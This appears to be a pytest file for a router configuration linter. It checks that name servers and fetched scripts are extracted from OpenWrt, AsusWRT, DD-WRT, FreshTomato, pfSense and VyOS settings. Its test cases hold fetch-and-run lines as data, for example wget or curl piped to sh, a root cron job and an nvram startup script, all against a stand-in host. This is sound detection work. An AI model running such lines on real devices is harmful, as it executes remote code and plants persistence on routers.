"""Name servers and fetched scripts, as every system's settings hold them."""

from __future__ import annotations

import time

import pytest

from routerlint.model.device import Device
from routerlint.parsing.fetching import read_shell_fetches
from routerlint.text.source import Document, SourceFile
from vendor_parsers.catalogue import Vendor


def parsed(vendor: str, *files: tuple[str, str]) -> Device:
    (device,) = Vendor(vendor).parse(Document(name="x", files=tuple(SourceFile(*file) for file in files)))
    return device


def hosts(device: Device) -> list[tuple[str, str]]:
    return [(found.kind, found.host) for found in device.outbound]


@pytest.mark.parametrize(
    ("script", "runs"),
    [
        ("wget -q -O - http://h.example/a.sh | sh", True),
        ("* * * * * root curl -s http://h.example/a.sh | /bin/bash", True),
        ("wget -O /tmp/a http://h.example/a; chmod +x /tmp/a; /tmp/a", True),
        ("wget http://h.example/a.sh\nsh a.sh", True),
        ('sh -c "$(curl -fsSL http://h.example/a.sh)"', True),
        ("wget -q -O /tmp/list http://h.example/hosts.txt", False),
        ("curl -s http://h.example/update?name=x >/dev/null", False),
        ("wget -O /tmp/hosts http://h.example/hosts\nsh /jffs/other.sh", False),
    ],
)
def test_a_shell_script_runs_what_it_pipes_to_a_shell_or_starts(script: str, runs: bool) -> None:
    (found,) = read_shell_fetches(script)
    assert (found.protocol, found.host, found.runs) == ("http", "h.example", runs)


def test_remarks_and_commands_without_an_address_are_left_out() -> None:
    assert not read_shell_fetches("# wget http://h.example/a.sh | sh\nwget $URL | sh\n")


@pytest.mark.parametrize(
    "text",
    [
        "wget " * 40_000,
        "wget http://h/" + "a" * 200_000,
        "| " * 100_000 + "wget http://h/x",
        "sh " * 60_000 + "curl http://h/x",
    ],
)
def test_no_script_makes_the_reading_stall(text: str) -> None:
    start = time.process_time()
    read_shell_fetches(text)
    assert time.process_time() - start < 1


def test_openwrt() -> None:
    # OpenWrt documentation: option dns; list server; dhcp_option 6; crontabs
    device = parsed(
        "openwrt",
        ("etc/config/network", "config interface wan\n\toption device eth0\n\toption proto dhcp\n\tlist dns 9.9.9.9\n"),
        ("etc/config/dhcp", "config dnsmasq\n\tlist server 203.0.113.53#5353\n\tlist server /lan/192.168.1.2\nconfig dhcp lan\n\tlist dhcp_option '6,203.0.113.1,203.0.113.2'\n"),
        ("etc/config/firewall", "config defaults\n\toption input REJECT\n"),
        ("etc/crontabs/root", "5 * * * * wget -qO- http://h.example/k3y?token=C4n4ry | sh\n"),
    )  # fmt: skip
    assert hosts(device) == [
        ("resolver", "9.9.9.9"),
        ("resolver", "203.0.113.53"),
        ("clients-resolver", "203.0.113.1"),
        ("clients-resolver", "203.0.113.2"),
        ("fetch", "h.example"),
    ]
    assert device.outbound[-1].runs
    assert "C4n4ry" not in repr(device.outbound)


def test_asuswrt() -> None:
    # rc/services.c: dhcp_dns1_x is told to clients
    text = "productid=RT-AX55\nlan_ipaddr=192.168.50.1\nsw_mode=1\nwan0_dns=9.9.9.9 0.0.0.0\ndhcp_dns1_x=203.0.113.53\n"
    assert hosts(parsed("asuswrt", ("nvram.txt", text))) == [
        ("resolver", "9.9.9.9"),
        ("clients-resolver", "203.0.113.53"),
    ]


@pytest.mark.parametrize(("vendor", "key"), [("ddwrt", "rc_startup"), ("freshtomato", "script_init")])
def test_scripts_in_nvram_are_read_and_not_shown(vendor: str, key: str) -> None:
    text = f"lan_ipaddr=192.168.1.1\nlan_netmask=255.255.255.0\nwan_dns=9.9.9.9\n{key}=wget -O - http://me:C4n4ry@h.example/a | sh\n"
    device = parsed(vendor, ("nvram.txt", text))
    assert hosts(device) == [("resolver", "9.9.9.9"), ("fetch", "h.example")]
    assert "C4n4ry" not in repr(device.outbound)


def test_pf() -> None:
    # elements of real configurations
    text = (
        "<pfsense><system><dnsserver>9.9.9.9</dnsserver><dnsserver>203.0.113.53</dnsserver></system>"
        "<interfaces><wan><if>em0</if><ipaddr>dhcp</ipaddr><enable/></wan></interfaces>"
        "<dhcpd><lan><dnsserver>203.0.113.1</dnsserver></lan></dhcpd></pfsense>"
    )
    found = hosts(parsed("pfsense", ("config.xml", text)))
    assert found == [("resolver", "9.9.9.9"), ("resolver", "203.0.113.53"), ("clients-resolver", "203.0.113.1")]


def test_vyos_and_edgeos() -> None:
    text = (
        "interfaces {\n    ethernet eth0 {\n        address dhcp\n    }\n}\n"
        "service {\n    dhcp-server {\n        shared-network-name LAN {\n            subnet 192.168.1.0/24 {\n"
        "                dns-server 203.0.113.53\n            }\n        }\n    }\n}\n"
        "system {\n    name-server 9.9.9.9\n    name-server eth0\n}\n"
    )
    for vendor in ("vyos", "edgeos"):
        assert hosts(parsed(vendor, ("config.boot", text))) == [
            ("resolver", "9.9.9.9"),
            ("clients-resolver", "203.0.113.53"),
        ]
